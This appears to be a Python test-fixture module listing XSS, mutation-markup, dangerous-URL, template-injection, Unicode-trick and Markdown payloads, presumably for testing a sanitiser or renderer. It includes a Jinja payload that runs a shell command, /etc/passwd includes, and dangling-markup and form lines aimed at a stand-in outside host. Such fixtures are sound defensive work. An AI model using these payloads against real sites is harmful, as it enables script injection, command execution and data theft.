"""What somebody could paste into a field to bring a page to life. Each calls `__xss` when it runs.

Typed by hand after the usual collections: breaking out of text, attributes, titles, scripts and comments; markup
that parsers repair into something else; addresses that are programs; words of template languages; signs that
turn or hide text.
"""

from __future__ import annotations

MARKUP = {
    "img": "同心<img src=x onerror=\"__xss('img')\">",
    "title": "</title><script>__xss('title')</script>",
    "attribute": '" onmouseover="__xss(\'attribute\')" x="',
    "attribute-single": "' autofocus onfocus='__xss(1)' x='",
    "attribute-bare": "x onmouseover=__xss(1) y=",
    "attribute-tight": '"onfocus=__xss(1)"autofocus="',
    "script-end": "</script><script>__xss('end')</script>",
    "json-ld": '"}</script><svg/onload=__xss(1)>{"a":"',
    "textarea": "</textarea><img src=x onerror=__xss(1)>",
    "style-end": "</style><img src=x onerror=__xss(1)>",
    "comment": "--><img src=x onerror=__xss(1)><!--",
    "comment-open": "<!-- 吞掉后面所有内容",
    "cdata": "]]><img src=x onerror=__xss(1)>",
    "cdata-open": "<![CDATA[<script>__xss(1)</script>]]>",
    "svg": "<svg onload=__xss('svg')>",
    "svg-animate": "<svg><animate onbegin=__xss(1) attributeName=x dur=1s>",
    "svg-script": "<svg><script href=data:,__xss(1) /></svg>",
    "math": "<math><mtext></mtext><mglyph><svg><mtext><textarea><a title='</textarea><img src onerror=__xss(1)>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=__xss(1)>'>",
    "mutation": "<math><mi><table><mglyph><style><!--</style><img title='--><img src=1 onerror=__xss(1)>'>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(1)>",
    "template": "<template><script>__xss(1)</script></template>",
    "declarative-shadow": "<div><template shadowrootmode=open><img src=x onerror=__xss(1)>",
    "details": "<details open ontoggle=__xss(1)>",
    "video": "<video><source onerror=__xss(1)>",
    "marquee": "<marquee onstart=__xss(1)>",
    "body": "<body onload=__xss(1)>",
    "iframe": "<iframe srcdoc='<script>parent.__xss(1)</script>'>",
    "object": "<object data=javascript:__xss(1)>",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:__xss(1)'>",
    "base": "<base href=https://elsewhere.example/>",
    "link": "<link rel=stylesheet href=https://elsewhere.example/a.css>",
    "import": "<style>@import 'https://elsewhere.example/a.css';</style>",
    "style": "<style>body{display:none}</style>",
    "style-attribute": "<p style='position:fixed;inset:0'>盖住</p>",
    "form": "<form action=https://elsewhere.example><input name=pw>",
    "dangling": "<img src='https://elsewhere.example/?",
    "beacon": "<img src=https://elsewhere.example/pixel.gif>",
    "clobber": "<a id=main name=body>",
    "unclosed": "<div><table><b>未闭合",
    "close-all": "</a></p></li></main></body></html>",
    "entities": "&lt;script&gt;__xss(1)&lt;/script&gt; &#60;b&#62;",
    "entity-open": "&lt<script>__xss(1)</script>&#x3c",
    "slashes": "<img/src=x/onerror=__xss(1)//",
    "null": "<img src=x onerror\x0b=__xss(1)>",
    "utf-7": "+ADw-script+AD4-__xss(1)+ADw-/script+AD4-",
    "full-width": "＜script＞__xss(1)＜/script＞",
    "css": "#fff;}*{background:url(https://elsewhere.example/)}",
    "css-string": "\\\"\\' \\3c /style\\3e }*{display:none}",
}
"""Markup, and what could end the place where a text stands."""

TEMPLATES = {
    "jinja": "{{ 7*7 }} {% if x %} {# y #}",
    "jinja-tight": "{{7*7}}{%x%}",
    "jinja-leak": "{{ config }} {{ environment }}",
    "jinja-run": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "jinja-block": "{% raw %} {% for x in y %}",
    "jinja-end": "{% endblock %}{% include '/etc/passwd' %}",
    "go": '{{ .Site }} {{< ref "x" >}} {{% x %}}',
    "liquid": "{{ 'a' | upcase }} {%- assign x = 1 -%}",
    "vue": "{{ constructor.constructor('__xss(1)')() }}",
    "angular": "{{ $on.constructor('__xss(1)')() }} [[ 7*7 ]]",
    "script-template": "${__xss(1)} `${7*7}` #{7*7} <%= 7*7 %>",
    "jsx": "{process.env.HOME} {`a`} <Comp/>",
    "snippet": '--8<-- "/etc/passwd"',
    "server-side": '<!--#include virtual="/etc/passwd" --> <?php echo 1 ?>',
    "percent": "%s %(x)s {0} {x!r} $x $$ \\g<0> \\1",
}
"""Words of template languages, to be shown letter by letter."""

ADDRESSES = {
    "js": "javascript:__xss('js')",
    "js-case": "JaVaScRiPt:__xss('js')",
    "js-tab": "java\tscript:__xss('js')",
    "js-line": "java\nscript:__xss(1)",
    "js-blank": " \x01javascript:__xss(1)",
    "js-entity": "&#106;avascript:__xss(1)",
    "js-colon": "javascript&colon;__xss(1)",
    "js-percent": "javascript%3A__xss(1)",
    "js-wide": "javascript：__xss(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>__xss('data')</script>",
    "data-svg": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9feHNzKDEpIi8+",
    "blob": "blob:https://elsewhere.example/1",
    "file": "file:///etc/passwd",
    "view-source": "view-source:https://elsewhere.example/",
    "intent": "intent://scan/#Intent;scheme=zxing;end",
    "weixin": "weixin://dl/business/?t=1",
    "protocol-relative": "//elsewhere.example/",
    "backslashes": "\\\\elsewhere.example/",
    "slash-backslash": "/\\elsewhere.example/",
    "account": "https://trusted.example@elsewhere.example/",
    "cyrillic": "https://exаmple.org/",
    "dial": "tel:*%2306%23",
}
"""Addresses that lead where a page of ours must not lead."""

SIGNS = {
    "bidi": "甲\u202egnp.scr\u202c乙",
    "isolate": "甲\u2066\u2067乙\u2069",
    "zero-width": "甲\u200b\u200d\ufeff乙<\u200bscript>",
    "line-separators": "甲\u2028__xss(1)\u2029乙",
    "tags": "甲\U000e0041\U000e007f乙",
    "nul": "甲\x00<script\x00>__xss(1)</script>",
    "surrogates": "甲\ufffd\uffff乙",
    "combining": "甲" + "\u0301" * 20,
}
"""Signs that turn, hide or break text."""

ALL = {
    f"{kind}-{name}": text
    for kind, several in (("markup", MARKUP), ("template", TEMPLATES), ("address", ADDRESSES), ("sign", SIGNS))
    for name, text in several.items()
}  # fmt: skip

MARKDOWN = (
    "[点我](javascript:__xss('md'))",
    "[点我](&#106;avascript:__xss('md'))",
    "[点我](<java&Tab;script:__xss('md')>)",
    "<javascript:__xss('md')>",
    "[点我][1]\n\n[1]: javascript:__xss('md')",
    '![x" onerror="__xss(1)](x)',
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "![logo](https://elsewhere.example/pixel.gif)",
    "![logo](//elsewhere.example/pixel.gif)",
    "[点我](https://a.example \"' onmouseover='__xss(1)\")",
    '正文 <img src=x onerror="__xss(1)">',
    '<div onclick="__xss(1)">点我</div>',
    "<a href=javascript:__xss(1) onclick=__xss(2)>点</a>",
    "甲\n{: onclick=__xss(1) style=color:red .overlay #main }",
    "### 题 {: #main .draft onfocus=__xss(1) }",
    "`</code><script>__xss(1)</script>`",
    "```\n</code></pre><script>__xss(1)</script>\n```",
    "| 甲 |\n|:-:|\n| <script>__xss(1)</script> |",
    "[^1]\n\n[^1]: <img src=x onerror=__xss(1)>",
    '!!! note "<img src=x onerror=__xss(1)>"\n    一句',
    "!!! overlay draft\n    一句",
    "[//elsewhere](//elsewhere.example/) [反](/\\elsewhere.example/) [斜](\\\\elsewhere.example)",
)
"""What only Markdown could bring to life."""
